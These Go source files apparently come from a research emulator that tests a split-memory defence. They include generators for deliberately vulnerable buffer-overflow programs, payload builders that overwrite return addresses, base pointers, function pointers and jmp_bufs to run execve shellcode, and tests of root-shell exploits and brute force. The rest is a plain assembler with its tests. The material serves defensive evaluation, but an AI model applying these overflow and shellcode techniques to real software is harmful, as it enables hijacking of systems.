func Segments() []Segment { return []Segment{SegData, SegBSS, SegHeap, SegStack} }

// String names the segment.
func (s Segment) String() string {
	switch s {
	case SegData:
		return "data"
	case SegBSS:
		return "bss"
	case SegHeap:
		return "heap"
	case SegStack:
		return "stack"
	}
	return "?"
}

// victimSource generates the vulnerable program for one benchmark cell.
// Every program:
//  1. obtains a 256-byte injection buffer in the requested segment and
//     leaks its address ("BUF xxxxxxxx"), standing in for the information
//     leaks the real exploits use;
//  2. reads 256 bytes of attack code into it;
//  3. runs the technique-specific vulnerable function, which overflows a
//     64-byte buffer with up to 512 attacker bytes;
//  4. prints "SURVIVED" if control flow was never hijacked.
func victimSource(tech Technique, seg Segment) string {
	var alloc string
	switch seg {
	case SegStack:
		alloc = `
    sub esp, 256
    mov esi, esp            ; codebuf on the stack`
	case SegHeap:
		alloc = `
    mov eax, 256
    push eax
    call malloc
    add esp, 4
    mov esi, eax            ; codebuf on the heap`
	case SegBSS:
		alloc = `
    mov esi, bssbuf         ; codebuf in bss`
	case SegData:
		alloc = `
    mov esi, databuf        ; codebuf in data`
	}

	var callVuln, vuln string
	switch tech {
	case TechRet:
		callVuln = "    call vuln"
		vuln = `
vuln:
    push ebp
    mov ebp, esp
    sub esp, 64
    mov eax, 512
    push eax
    lea eax, [ebp-64]
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows locals, saved ebp, return address
    add esp, 12
    mov esp, ebp
    pop ebp
    ret`
	case TechBasePtr:
		callVuln = "    call outer"
		vuln = `
outer:
    push ebp
    mov ebp, esp
    call vuln
ret_outer:
    mov esp, ebp            ; ebp was swapped for the attacker's fake frame
    pop ebp
    ret
vuln:
    push ebp
    mov ebp, esp
    sub esp, 64
    mov eax, 512
    push eax
    lea eax, [ebp-64]
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows only up to the saved base pointer
    add esp, 12
    mov esp, ebp
    pop ebp
    ret`
	case TechFuncPtrVar:
		vuln = funcPtrVarVuln(seg)
		callVuln = "    call vuln"
	case TechFuncPtrParam:
		callVuln = `
    mov eax, benign
    push eax
    call vuln
    add esp, 4`
		vuln = `
vuln:
    push ebp
    mov ebp, esp
    sub esp, 64
    mov eax, 512
    push eax
    lea eax, [ebp-64]
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows through to the fptr parameter
    add esp, 12
    load eax, [ebp+8]
    call eax
    mov esp, ebp
    pop ebp
    ret
benign:
    ret`
	case TechLongjmpVar:
		vuln = longjmpVarVuln(seg)
		callVuln = "    call vuln"
	case TechLongjmpParam:
		callVuln, vuln = longjmpParamVuln(seg)
	}

	statics := segStatics(tech, seg)

	return fmt.Sprintf(`
_start:%s
    ; leak the injection buffer address: "BUF xxxxxxxx\n"
    push esi
    mov eax, leakbuf
    push eax
    call itoa_hex
    add esp, 8
    mov eax, leakpfx
    push eax
    call print
    add esp, 4
    mov eax, leakbuf
    push eax
    call print
    add esp, 4
    mov eax, newline
    push eax
    call print
    add esp, 4
    ; receive 256 bytes of "attack code" into the buffer
    mov eax, 256
    push eax
    push esi
    mov eax, 0
    push eax
    call read_exact
    add esp, 12
%s
    mov eax, survived
    push eax
    call print
    add esp, 4
    mov eax, 0
    push eax
    call exit
%s
.data
leakpfx:  .asciz "BUF "
newline:  .asciz "\n"
survived: .asciz "SURVIVED\n"
leakbuf:  .space 12
%s
`, alloc, callVuln, vuln, statics)
}

func funcPtrVarVuln(seg Segment) string {
	switch seg {
	case SegStack:
		return `
vuln:
    push ebp
    mov ebp, esp
    sub esp, 72
    mov eax, benign
    store [ebp-8], eax      ; fptr above the buffer
    mov eax, 512
    push eax
    lea eax, [ebp-72]
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows into the fptr
    add esp, 12
    load eax, [ebp-8]
    call eax
    mov esp, ebp
    pop ebp
    ret
benign:
    ret`
	case SegHeap:
		return `
vuln:
    push ebp
    mov ebp, esp
    sub esp, 8
    mov eax, 72
    push eax
    call malloc
    add esp, 4
    store [ebp-4], eax      ; p: 64-byte buffer + fptr at p+64
    mov ecx, eax
    mov eax, benign
    store [ecx+64], eax
    mov eax, 512
    push eax
    load eax, [ebp-4]
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows into the fptr
    add esp, 12
    load ecx, [ebp-4]
    load eax, [ecx+64]
    call eax
    mov esp, ebp
    pop ebp
    ret
benign:
    ret`
	default: // bss / data statics vbuf + vfptr
		return `
vuln:
    push ebp
    mov ebp, esp
    mov eax, benign
    mov ecx, vfptr
    store [ecx], eax
    mov eax, 512
    push eax
    mov eax, vbuf
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows the static buffer into the fptr
    add esp, 12
    mov ecx, vfptr
    load eax, [ecx]
    call eax
    mov esp, ebp
    pop ebp
    ret
benign:
    ret`
	}
}

func longjmpVarVuln(seg Segment) string {
	switch seg {
	case SegStack:
		return `
vuln:
    push ebp
    mov ebp, esp
    sub esp, 88
    lea eax, [ebp-24]       ; jmp_buf above the buffer
    push eax
    call setjmp
    add esp, 4
    cmp eax, 0
    jnz vuln_done
    mov eax, 512
    push eax
    lea eax, [ebp-88]
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows into the jmp_buf
    add esp, 12
    mov eax, 1
    push eax
    lea eax, [ebp-24]
    push eax
    call longjmp
vuln_done:
    mov esp, ebp
    pop ebp
    ret`
	case SegHeap:
		return `
vuln:
    push ebp
    mov ebp, esp
    sub esp, 8
    mov eax, 88
    push eax
    call malloc
    add esp, 4
    store [ebp-4], eax      ; p: 64-byte buffer + jmp_buf at p+64
    mov ecx, eax
    lea eax, [ecx+64]
    push eax
    call setjmp
    add esp, 4
    cmp eax, 0
    jnz vuln_done
    mov eax, 512
    push eax
    load eax, [ebp-4]
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows into the jmp_buf
    add esp, 12
    mov eax, 1
    push eax
    load ecx, [ebp-4]
    lea eax, [ecx+64]
    push eax
    call longjmp
vuln_done:
    mov esp, ebp
    pop ebp
    ret`
	default: // bss / data statics vbuf + vjb
		return `
vuln:
    push ebp
    mov ebp, esp
    mov eax, vjb
    push eax
    call setjmp
    add esp, 4
    cmp eax, 0
    jnz vuln_done
    mov eax, 512
    push eax
    mov eax, vbuf
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows the static buffer into the jmp_buf
    add esp, 12
    mov eax, 1
    push eax
    mov eax, vjb
    push eax
    call longjmp
vuln_done:
    mov esp, ebp
    pop ebp
    ret`
	}
}

func longjmpParamVuln(seg Segment) (callVuln, vuln string) {
	switch seg {
	case SegStack:
		callVuln = `
    sub esp, 88
    mov edi, esp            ; stack vbuf (64) + jmp_buf (24)
    push edi                ; vbuf arg
    lea eax, [edi+64]
    push eax                ; jbp arg
    call vuln
    add esp, 8`
	case SegHeap:
		callVuln = `
    mov eax, 88
    push eax
    call malloc
    add esp, 4
    mov edi, eax            ; heap vbuf (64) + jmp_buf (24)
    push edi
    lea eax, [edi+64]
    push eax
    call vuln
    add esp, 8`
	default:
		callVuln = `
    mov eax, vbuf
    push eax
    mov eax, vjb
    push eax
    call vuln
    add esp, 8`
	}
	vuln = `
vuln:
    push ebp
    mov ebp, esp
    load eax, [ebp+8]       ; jmp_buf parameter
    push eax
    call setjmp
    add esp, 4
    cmp eax, 0
    jnz vuln_done
    mov eax, 512
    push eax
    load eax, [ebp+12]      ; vulnerable buffer
    push eax
    mov eax, 0
    push eax
    call read_exact         ; overflows into the jmp_buf
    add esp, 12
    mov eax, 1
    push eax
    load eax, [ebp+8]
    push eax
    call longjmp
vuln_done:
    mov esp, ebp
    pop ebp
    ret`
	return callVuln, vuln
}

// segStatics emits the segment-resident buffers each cell needs.
func segStatics(tech Technique, seg Segment) string {
	var sb string
	needVulnStatics := (tech == TechFuncPtrVar || tech == TechLongjmpVar || tech == TechLongjmpParam) &&
		(seg == SegBSS || seg == SegData)
	switch seg {
	case SegBSS:
		sb = ".section bss 0x08072000 rw\nbssbuf: .space 256\n"
		if needVulnStatics {
			sb += "vbuf: .space 64\n"
			if tech == TechFuncPtrVar {
				sb += "vfptr: .word 0\n"
			} else {
				sb += "vjb: .space 24\n"
			}
		}
	case SegData:
		sb = ".section vdata 0x08076000 rw\ndatabuf: .space 256, 0x41\n"
		if needVulnStatics {
			sb += "vbuf: .space 64, 0x42\n"
			if tech == TechFuncPtrVar {
				sb += "vfptr: .word 0\n"
			} else {
				sb += "vjb: .space 24\n"
			}
		}
	default:
		if needVulnStatics {
			// unreachable: stack/heap variants carry their own buffers
			sb = ""
		}
	}
	return sb
}

// buildPayload constructs the overflow payload for a cell, given the leaked
// injection-buffer address and the program symbol table.
func buildPayload(tech Technique, codebuf uint32, syms map[string]uint32) []byte {
	junk := func(n int) []byte { return pad(nil, n, 0x41) }
	switch tech {
	case TechRet:
		p := junk(64)
		p = append(p, le32(codebuf+240)...) // saved ebp: anywhere writable
		p = append(p, le32(codebuf)...)     // return address -> injected code
		return p
	case TechBasePtr:
		// Fake frame at codebuf+192: [junk][&codebuf]; only the saved base
		// pointer is overwritten — the return address stays intact.
		p := junk(64)
		p = append(p, le32(codebuf+192)...)
		return p
	case TechFuncPtrVar:
		p := junk(64)
		p = append(p, le32(codebuf)...)
		return p
	case TechFuncPtrParam:
		p := junk(64)
		p = append(p, le32(codebuf+240)...) // saved ebp (unused before call)
		p = append(p, le32(syms["benign"])...)
		p = append(p, le32(codebuf)...) // the parameter
		return p
	case TechLongjmpVar, TechLongjmpParam:
		p := junk(64)
		p = append(p, le32(0)...)           // ebx
		p = append(p, le32(0)...)           // esi
		p = append(p, le32(0)...)           // edi
		p = append(p, le32(codebuf+240)...) // ebp
		p = append(p, le32(codebuf+224)...) // esp: scratch inside codebuf
		p = append(p, le32(codebuf)...)     // eip -> injected code
		return p
	}
	return nil
}

// shellcodeFor builds the injected payload for a cell: shellcode padded to
// the 256-byte code buffer, with the base-pointer technique's fake frame
// planted at offset 192.
func shellcodeFor(tech Technique, codebuf uint32) []byte {
	sc := ExecveShellcode(codebuf)
	sc = pad(sc, 192, 0x90)
	if tech == TechBasePtr {
		sc = append(sc, le32(0x42424242)...) // popped into ebp
		sc = append(sc, le32(codebuf)...)    // popped into eip
	}
	return pad(sc, 256, 0x90)
}

// CellResult is one Table 1 cell.
type CellResult struct {
	Tech     Technique
	Seg      Segment
	NA       bool // attack does not work even unprotected
	Result   Result
	Baseline Result // outcome on the unprotected machine
}

// RunCell executes one benchmark cell under cfg and, for reference, on an
// unprotected machine.
func RunCell(cfg splitmem.Config, tech Technique, seg Segment) (CellResult, error) {
	baseline, err := runCellOnce(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
	if err != nil {
		return CellResult{}, err
	}
	protected, err := runCellOnce(cfg, tech, seg)
	if err != nil {
		return CellResult{}, err
	}
	return CellResult{
		Tech:     tech,
		Seg:      seg,
		NA:       !baseline.Succeeded(),
		Result:   protected,
		Baseline: baseline,
	}, nil
}

func runCellOnce(cfg splitmem.Config, tech Technique, seg Segment) (Result, error) {
	src := victimSource(tech, seg)
	t, err := NewTarget(cfg, src, fmt.Sprintf("wilander-%d-%d", tech, seg))
	if err != nil {
		return Result{}, err
	}
	prog, err := splitmem.Assemble(guest.WithCRT(src))
	if err != nil {
		return Result{}, err
	}
	out, ok := t.WaitOutput("BUF ")
	if !ok {
		return Result{Notes: "no leak: " + out}, nil
	}
	codebuf, err := parseLeak(out, "BUF ")
	if err != nil {
		return Result{}, err
	}
	t.Send(shellcodeFor(tech, codebuf))
	t.Send(buildPayload(tech, codebuf, prog.Symbols))
	t.Close()
	t.Run()
	return t.Result(), nil
}

// RunWilander executes the full Table 1 grid under cfg.
func RunWilander(cfg splitmem.Config) ([]CellResult, error) {
	var out []CellResult
	for _, tech := range Techniques() {
		for _, seg := range Segments() {
			cell, err := RunCell(cfg, tech, seg)
			if err != nil {
				return nil, fmt.Errorf("%v/%v: %w", tech, seg, err)
			}
			out = append(out, cell)
		}
	}
	return out, nil
}
