package attacks

import (
	"strings"
	"testing"

	"splitmem"
)

// TestScenariosUnprotected: all five real-world exploits must spawn a shell
// on the unprotected machine (Table 2's "Attack Result" column).
func TestScenariosUnprotected(t *testing.T) {
	for _, sc := range Scenarios() {
		t.Run(sc.Key, func(t *testing.T) {
			r, err := RunScenario(sc.Key, splitmem.Config{Protection: splitmem.ProtNone})
			if err != nil {
				t.Fatal(err)
			}
			if !r.Succeeded() {
				t.Fatalf("exploit failed: %+v", r)
			}
		})
	}
}

// TestScenariosSplit: all five must be foiled under stand-alone split
// memory (Table 2's protected column).
func TestScenariosSplit(t *testing.T) {
	for _, sc := range Scenarios() {
		t.Run(sc.Key, func(t *testing.T) {
			r, err := RunScenario(sc.Key, splitmem.Config{Protection: splitmem.ProtSplit})
			if err != nil {
				t.Fatal(err)
			}
			if r.Succeeded() {
				t.Fatalf("exploit succeeded under split memory: %+v", r)
			}
			if !r.Detected && !r.Killed {
				t.Fatalf("attack neither detected nor fatal: %+v", r)
			}
		})
	}
}

// TestScenariosNX: the execute-disable baseline also stops these particular
// five (they all execute injected code from data pages) — the difference
// shows up in the mixed-page/bypass scenarios, not here.
func TestScenariosNX(t *testing.T) {
	for _, sc := range Scenarios() {
		t.Run(sc.Key, func(t *testing.T) {
			r, err := RunScenario(sc.Key, splitmem.Config{Protection: splitmem.ProtNX})
			if err != nil {
				t.Fatal(err)
			}
			if r.Succeeded() {
				t.Fatalf("exploit succeeded under NX: %+v", r)
			}
		})
	}
}

// TestWuftpdTwoStage verifies the 7350wurm-style staging: the attacker
// receives the 4-byte cookie (stage one ran) before delivering stage two,
// and afterwards drives the shell.
func TestWuftpdTwoStage(t *testing.T) {
	r, cookie, err := ExploitMiniwuftp(splitmem.Config{Protection: splitmem.ProtNone}, []string{"id"})
	if err != nil {
		t.Fatal(err)
	}
	if string(cookie) != "OK!!" {
		t.Fatalf("no stage-one cookie: %+v", r)
	}
	if !r.Succeeded() {
		t.Fatalf("no shell: %+v", r)
	}
	if !strings.Contains(r.Output, "uid=0(root)") {
		t.Fatalf("shell interaction failed: %q", r.Output)
	}
}

// TestSmbBruteForce: the unhelped brute force against stack randomization
// must eventually land (unprotected), as the paper notes it would "given
// enough time".
func TestSmbBruteForce(t *testing.T) {
	if testing.Short() {
		t.Skip("brute force is slow")
	}
	r, attempts, err := BruteForceMinismb(splitmem.Config{Protection: splitmem.ProtNone}, 120)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Succeeded() {
		t.Fatalf("brute force failed after %d attempts", attempts)
	}
	t.Logf("brute force landed after %d attempts", attempts)
}
