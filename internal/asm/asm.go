// Package asm implements a two-pass assembler for the S86 instruction set.
// Guest programs — the C runtime, the vulnerable servers, the performance
// workloads — are written in S86 assembly and assembled into SELF images at
// runtime (no external toolchain).
//
// Syntax summary:
//
//	; comment               # comment
//	.text [addr]            ; switch to the text section (default 0x08048000, r-x)
//	.data [addr]            ; switch to the data section (default 0x08060000, rw-)
//	.section name addr rwx  ; define/switch to a custom section
//	.entry sym              ; program entry point (default _start, else start of .text)
//	.equ NAME, expr         ; constant
//	.word e1, e2, ...       ; 32-bit little-endian words
//	.byte e1, e2, ...       ; bytes
//	.ascii "str"            ; string bytes
//	.asciz "str"            ; NUL-terminated string
//	.space n [, fill]       ; n bytes of fill (default 0)
//	.align n                ; pad to an n-byte boundary
//
//	label:  mov eax, 42     ; operands: reg, imm expression, or [reg+disp]
//	        load eax, [ebp+8]
//	        store [ebp-4], eax
//	        jz done
//
// Pseudo-instructions: inc r / dec r (add/sub 1).
package asm

import (
	"fmt"
	"strings"

	"splitmem/internal/isa"
	"splitmem/internal/loader"
)

// Default section load addresses.
const (
	DefaultTextAddr = 0x08048000
	DefaultDataAddr = 0x08060000
)

type section struct {
	name string
	addr uint32
	perm byte
	pc   uint32 // layout cursor relative to addr
	buf  []byte // encoded bytes (pass 2)
}

type stmtKind int

const (
	stLabel stmtKind = iota
	stDirective
	stInstr
)

type stmt struct {
	kind     stmtKind
	line     int
	name     string   // label name / directive name / mnemonic
	args     []string // operand strings
	raw      string   // remainder after directive name (for string directives)
	section  int      // section index at layout time
	addr     uint32   // assigned address (labels, instrs, data)
	size     uint32   // layout size
	instArgs []operand
}

type operandKind int

const (
	opReg operandKind = iota
	opMem
	opExpr
)

type operand struct {
	kind operandKind
	reg  byte   // opReg, opMem base
	expr string // opExpr value / opMem displacement expression ("" = 0)
	neg  bool   // opMem: displacement is subtracted
}

// Assembler holds state across the two passes. Create one per Assemble call.
type assembler struct {
	stmts    []stmt
	sections []section
	cur      int // current section index; -1 before any section directive
	symbols  map[string]uint32
	entryStr string
}

// Assemble translates S86 assembly source into a SELF program.
func Assemble(src string) (*loader.Program, error) {
	a := &assembler{cur: -1, symbols: map[string]uint32{}}
	if err := a.parse(src); err != nil {
		return nil, err
	}
	if err := a.layout(); err != nil {
		return nil, err
	}
	return a.emit()
}

// MustAssemble is Assemble for known-good embedded sources; it panics on
// error and is intended for tests and package initialization of canned
// guest programs.
func MustAssemble(src string) *loader.Program {
	p, err := Assemble(src)
	if err != nil {
		panic(fmt.Sprintf("asm: %v", err))
	}
	return p
}

// Error is a source-level assembly failure: a syntax error, an unknown
// mnemonic, a bad directive. Line is the 1-based source line (0 when the
// failure is not attributable to one line, e.g. an unresolved .entry
// symbol). Callers that assemble untrusted source (the analysis service's
// job decoder) pull it out with errors.As to report the offending line.
type Error struct {
	Line int
	Msg  string
}

// Error renders the failure in the assembler's historical "line N: msg"
// form (or the bare message when no line is attributable).
func (e *Error) Error() string {
	if e.Line == 0 {
		return e.Msg
	}
	return fmt.Sprintf("line %d: %s", e.Line, e.Msg)
}

func (a *assembler) errf(line int, format string, args ...any) error {
	return &Error{Line: line, Msg: fmt.Sprintf(format, args...)}
}

// ---- pass 0: parse ----

func (a *assembler) parse(src string) error {
	for i, line := range strings.Split(src, "\n") {
		ln := i + 1
		text := stripComment(line)
		text = strings.TrimSpace(text)
		for text != "" {
			// Leading labels, possibly several on one line.
			if idx := labelEnd(text); idx >= 0 {
				a.stmts = append(a.stmts, stmt{kind: stLabel, line: ln, name: text[:idx]})
				text = strings.TrimSpace(text[idx+1:])
				continue
			}
			break
		}
		if text == "" {
			continue
		}
		if text[0] == '.' && isDirective(text) {
			name, rest := splitWord(text)
			a.stmts = append(a.stmts, stmt{
				kind: stDirective, line: ln, name: name,
				args: splitArgs(rest), raw: rest,
			})
			continue
		}
		name, rest := splitWord(text)
		s := stmt{kind: stInstr, line: ln, name: strings.ToLower(name)}
		for _, arg := range splitArgs(rest) {
			op, err := parseOperand(arg)
			if err != nil {
				return a.errf(ln, "%v", err)
			}
			s.instArgs = append(s.instArgs, op)
			s.args = append(s.args, arg)
		}
		a.stmts = append(a.stmts, s)
	}
	return nil
}

// stripComment removes ; and # comments, respecting string and character
// literals.
func stripComment(line string) string {
	inStr, inChar := false, false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case inStr:
			if c == '\\' {
				i++
			} else if c == '"' {
				inStr = false
			}
		case inChar:
			if c == '\\' {
				i++
			} else if c == '\'' {
				inChar = false
			}
		case c == '"':
			inStr = true
		case c == '\'':
			inChar = true
		case c == ';' || c == '#':
			return line[:i]
		}
	}
	return line
}

// labelEnd returns the index of the ':' terminating a leading label, or -1.
func labelEnd(s string) int {
	if len(s) == 0 || !isIdentStart(s[0]) {
		return -1
	}
	i := 0
	for i < len(s) && isIdentChar(s[i]) {
		i++
	}
	if i < len(s) && s[i] == ':' {
		return i
	}
	return -1
}

var directives = map[string]bool{
	".text": true, ".data": true, ".section": true, ".entry": true,
	".equ": true, ".word": true, ".byte": true, ".ascii": true,
	".asciz": true, ".space": true, ".align": true,
}

func isDirective(s string) bool {
	name, _ := splitWord(s)
	return directives[name]
}

func splitWord(s string) (string, string) {
	s = strings.TrimSpace(s)
	i := strings.IndexAny(s, " \t")
	if i < 0 {
		return s, ""
	}
	return s[:i], strings.TrimSpace(s[i+1:])
}

// splitArgs splits on top-level commas, respecting brackets and quotes.
func splitArgs(s string) []string {
	s = strings.TrimSpace(s)
	if s == "" {
		return nil
	}
	var args []string
	depth := 0
	inStr, inChar := false, false
	start := 0
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case inStr:
			if c == '\\' {
				i++
			} else if c == '"' {
				inStr = false
			}
		case inChar:
			if c == '\\' {
				i++
			} else if c == '\'' {
				inChar = false
			}
		case c == '"':
			inStr = true
		case c == '\'':
			inChar = true
		case c == '[' || c == '(':
			depth++
		case c == ']' || c == ')':
			depth--
		case c == ',' && depth == 0:
			args = append(args, strings.TrimSpace(s[start:i]))
			start = i + 1
		}
	}
	args = append(args, strings.TrimSpace(s[start:]))
	return args
}

func parseOperand(s string) (operand, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return operand{}, fmt.Errorf("empty operand")
	}
	if r, ok := isa.RegByName(strings.ToLower(s)); ok {
		return operand{kind: opReg, reg: r}, nil
	}
	if s[0] == '[' {
		if s[len(s)-1] != ']' {
			return operand{}, fmt.Errorf("unterminated memory operand %q", s)
		}
		inner := strings.TrimSpace(s[1 : len(s)-1])
		// base register, optional +expr or -expr
		var regName, disp string
		var neg bool
		if i := strings.IndexAny(inner, "+-"); i >= 0 {
			regName = strings.TrimSpace(inner[:i])
			disp = strings.TrimSpace(inner[i+1:])
			neg = inner[i] == '-'
		} else {
			regName = inner
		}
		r, ok := isa.RegByName(strings.ToLower(regName))
		if !ok {
			return operand{}, fmt.Errorf("memory operand %q must start with a base register", s)
		}
		return operand{kind: opMem, reg: r, expr: disp, neg: neg}, nil
	}
	return operand{kind: opExpr, expr: s}, nil
}
