package asm

import (
	"fmt"
	"strings"

	"splitmem/internal/loader"
)

// AssembleListing assembles src and additionally produces a classic
// assembler listing: every source line annotated with the address and the
// bytes it produced. Toolchain users (and the sasm -l flag) use it to debug
// guest programs and to compute the exact payload offsets exploits need.
func AssembleListing(src string) (*loader.Program, string, error) {
	a := &assembler{cur: -1, symbols: map[string]uint32{}}
	if err := a.parse(src); err != nil {
		return nil, "", err
	}
	if err := a.layout(); err != nil {
		return nil, "", err
	}
	prog, err := a.emit()
	if err != nil {
		return nil, "", err
	}

	// Collect, per source line, the (address, length, section) of each
	// emitted statement.
	type span struct {
		addr    uint32
		size    uint32
		section int
	}
	byLine := map[int][]span{}
	for i := range a.stmts {
		s := &a.stmts[i]
		if s.kind == stLabel || s.size == 0 && s.kind != stInstr {
			continue
		}
		if s.kind == stDirective {
			switch s.name {
			case ".word", ".byte", ".ascii", ".asciz", ".space", ".align":
			default:
				continue
			}
		}
		byLine[s.line] = append(byLine[s.line], span{addr: s.addr, size: s.size, section: s.section})
	}
	// Section content for byte extraction.
	secBytes := map[int][]byte{}
	for i := range a.sections {
		secBytes[i] = a.sections[i].buf
	}
	secBase := map[int]uint32{}
	for i := range a.sections {
		secBase[i] = a.sections[i].addr
	}

	var sb strings.Builder
	for i, line := range strings.Split(src, "\n") {
		ln := i + 1
		spans := byLine[ln]
		if len(spans) == 0 {
			fmt.Fprintf(&sb, "%-28s %s\n", "", line)
			continue
		}
		first := true
		for _, sp := range spans {
			buf := secBytes[sp.section]
			off := sp.addr - secBase[sp.section]
			end := off + sp.size
			if int(end) > len(buf) {
				end = uint32(len(buf))
			}
			bytes := buf[off:end]
			// Wrap long byte runs (data directives) at 8 bytes per row.
			for o := 0; o < len(bytes); o += 8 {
				hi := o + 8
				if hi > len(bytes) {
					hi = len(bytes)
				}
				hex := make([]string, 0, 8)
				for _, b := range bytes[o:hi] {
					hex = append(hex, fmt.Sprintf("%02x", b))
				}
				prefix := fmt.Sprintf("%08x  %-17s", sp.addr+uint32(o), strings.Join(hex, " "))
				if first {
					fmt.Fprintf(&sb, "%s %s\n", prefix, line)
					first = false
				} else {
					fmt.Fprintf(&sb, "%s\n", prefix)
				}
			}
			if len(bytes) == 0 && first {
				fmt.Fprintf(&sb, "%08x  %-17s %s\n", sp.addr, "", line)
				first = false
			}
		}
	}
	return prog, sb.String(), nil
}
