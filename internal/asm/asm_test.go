package asm

import (
	"strings"
	"testing"

	"splitmem/internal/isa"
	"splitmem/internal/loader"
)

func assemble(t *testing.T, src string) *loader.Program {
	t.Helper()
	p, err := Assemble(src)
	if err != nil {
		t.Fatalf("assemble: %v", err)
	}
	return p
}

func textSection(t *testing.T, p *loader.Program) *loader.Section {
	t.Helper()
	for i := range p.Sections {
		if p.Sections[i].Name == ".text" {
			return &p.Sections[i]
		}
	}
	t.Fatal("no .text section")
	return nil
}

func TestBasicProgram(t *testing.T) {
	p := assemble(t, `
; exit(7)
_start:
    mov ebx, 7
    mov eax, 1
    int 0x80
`)
	txt := textSection(t, p)
	if txt.Addr != DefaultTextAddr {
		t.Errorf("text at %#x", txt.Addr)
	}
	if p.Entry != DefaultTextAddr {
		t.Errorf("entry %#x", p.Entry)
	}
	want := []byte{0xbb, 7, 0, 0, 0, 0xb8, 1, 0, 0, 0, 0xcd, 0x80}
	if string(txt.Data) != string(want) {
		t.Errorf("code:\n got % x\nwant % x", txt.Data, want)
	}
}

func TestLabelsAndBranches(t *testing.T) {
	p := assemble(t, `
_start:
    mov ecx, 10
loop:
    dec ecx
    cmp ecx, 0
    jnz loop
    jmp done
done:
    ret
`)
	txt := textSection(t, p)
	// Verify the jnz displacement: decode instructions and check targets.
	var addr uint32 = txt.Addr
	code := txt.Data
	loopAddr, _ := p.Symbol("loop")
	doneAddr, _ := p.Symbol("done")
	found := 0
	for len(code) > 0 {
		in, err := isa.Decode(code)
		if err != nil {
			t.Fatalf("decode at %#x: %v", addr, err)
		}
		switch in.Op {
		case isa.OpJnz:
			if got := addr + uint32(in.Size) + in.Imm; got != loopAddr {
				t.Errorf("jnz target %#x want %#x", got, loopAddr)
			}
			found++
		case isa.OpJmp:
			if got := addr + uint32(in.Size) + in.Imm; got != doneAddr {
				t.Errorf("jmp target %#x want %#x", got, doneAddr)
			}
			found++
		}
		addr += uint32(in.Size)
		code = code[in.Size:]
	}
	if found != 2 {
		t.Errorf("found %d branches", found)
	}
}

func TestMemoryOperands(t *testing.T) {
	p := assemble(t, `
_start:
    load eax, [ebp+8]
    store [ebp-4], eax
    loadb ecx, [esi]
    storeb [edi+1], edx
    lea esi, [esp+16]
`)
	txt := textSection(t, p)
	ins := decodeAll(t, txt.Data)
	if ins[0].Op != isa.OpLoad || ins[0].R1 != isa.EAX || ins[0].R2 != isa.EBP || ins[0].Imm != 8 {
		t.Errorf("load: %+v", ins[0])
	}
	if ins[1].Op != isa.OpStore || ins[1].R1 != isa.EBP || ins[1].R2 != isa.EAX || int32(ins[1].Imm) != -4 {
		t.Errorf("store: %+v", ins[1])
	}
	if ins[2].Op != isa.OpLoadB || ins[2].Imm != 0 {
		t.Errorf("loadb: %+v", ins[2])
	}
	if ins[3].Op != isa.OpStoreB || ins[3].R1 != isa.EDI || ins[3].Imm != 1 {
		t.Errorf("storeb: %+v", ins[3])
	}
	if ins[4].Op != isa.OpLea || ins[4].R2 != isa.ESP || ins[4].Imm != 16 {
		t.Errorf("lea: %+v", ins[4])
	}
}

func decodeAll(t *testing.T, code []byte) []isa.Instr {
	t.Helper()
	var out []isa.Instr
	for len(code) > 0 {
		in, err := isa.Decode(code)
		if err != nil {
			t.Fatalf("decode: %v (% x)", err, code)
		}
		out = append(out, in)
		code = code[in.Size:]
	}
	return out
}

func TestDataDirectives(t *testing.T) {
	p := assemble(t, `
.text
_start:
    ret
.data
msg:    .asciz "hi\n"
raw:    .ascii "ab"
words:  .word 1, 0x10, msg
bytes:  .byte 'A', 'B', 0
gap:    .space 4, 0xff
after:  .byte 1
`)
	var data *loader.Section
	for i := range p.Sections {
		if p.Sections[i].Name == ".data" {
			data = &p.Sections[i]
		}
	}
	if data == nil {
		t.Fatal("no data section")
	}
	msg, _ := p.Symbol("msg")
	if msg != DefaultDataAddr {
		t.Errorf("msg at %#x", msg)
	}
	want := []byte{'h', 'i', '\n', 0, 'a', 'b',
		1, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 6, 8, // msg = 0x08060000 LE
		'A', 'B', 0,
		0xff, 0xff, 0xff, 0xff,
		1}
	if string(data.Data) != string(want) {
		t.Errorf("data:\n got % x\nwant % x", data.Data, want)
	}
	after, _ := p.Symbol("after")
	if after != DefaultDataAddr+uint32(len(want))-1 {
		t.Errorf("after at %#x", after)
	}
}

func TestEquAndExpressions(t *testing.T) {
	p := assemble(t, `
.equ SYS_EXIT, 1
.equ BUFSZ, 16*4
_start:
    mov eax, SYS_EXIT
    mov ecx, BUFSZ+2
    mov edx, -1
    mov ebx, (2+3)*4
`)
	ins := decodeAll(t, textSection(t, p).Data)
	wants := []uint32{1, 66, 0xffffffff, 20}
	for i, w := range wants {
		if ins[i].Imm != w {
			t.Errorf("instr %d imm=%#x want %#x", i, ins[i].Imm, w)
		}
	}
}

func TestAlign(t *testing.T) {
	p := assemble(t, `
_start: ret
.data
a: .byte 1
.align 8
b: .byte 2
`)
	b, _ := p.Symbol("b")
	if b != DefaultDataAddr+8 {
		t.Errorf("b at %#x", b)
	}
}

func TestCustomSectionMixed(t *testing.T) {
	p := assemble(t, `
.text
_start: ret
.section mixed 0x08070000 rwx
code_and_data:
    mov eax, 1
value: .word 42
`)
	var sec *loader.Section
	for i := range p.Sections {
		if p.Sections[i].Name == "mixed" {
			sec = &p.Sections[i]
		}
	}
	if sec == nil {
		t.Fatal("no mixed section")
	}
	if !sec.Mixed() {
		t.Error("section should be rwx (mixed)")
	}
	if sec.Addr != 0x08070000 {
		t.Errorf("addr %#x", sec.Addr)
	}
}

func TestEntryDirective(t *testing.T) {
	p := assemble(t, `
.entry main
helper:
    ret
main:
    ret
`)
	main, _ := p.Symbol("main")
	if p.Entry != main {
